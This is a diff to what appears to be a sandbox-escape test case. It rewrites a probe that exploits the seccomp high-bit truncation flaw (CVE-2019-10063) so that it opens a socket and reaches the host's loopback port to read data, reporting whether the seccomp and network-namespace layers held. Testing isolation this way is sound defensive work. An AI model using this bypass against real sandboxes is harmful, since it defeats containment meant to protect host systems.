@@ -1,17 +1,20 @@
-# technique: make a socket with a bit above 32 in the family, which the kernel drops (CVE-2019-10063)
+# technique: reach the host's loopback with a bit above 32 in the family, which the kernel drops (CVE-2019-10063)
 # family: C3
 # severity: C
 # layers: seccomp, net_namespace
 # profile: python-full
-errors = set()
-for family in [1, 2, 10, 16, 38, 40]:
-    for high in [1 << 32, 1 << 63]:
-        r, e = call("socket", family - (high if high == 1 << 63 else -high), 1 if family != 16 else 3, 0)
-        errors.add(e)
-        if not e:
-            break
+import ctypes
+import os
+import struct
+
+errors = []
+for high in [1 << 32, -1 << 63]:
+    fd, e = call("socket", 2 | high, 1, 0)
     if not e:
-        won("family %d" % family)
-        break
+        r, e = call("connect", fd, struct.pack("<H", 2) + struct.pack(">H", int("@PORT@")) + bytes([127, 0, 0, 1]) + bytes(8), 16)
+        if not e:
+            won("read %s" % os.read(fd, 100).decode())
+            break
+    errors.append(e)
 else:
     held(" ".join(errors))
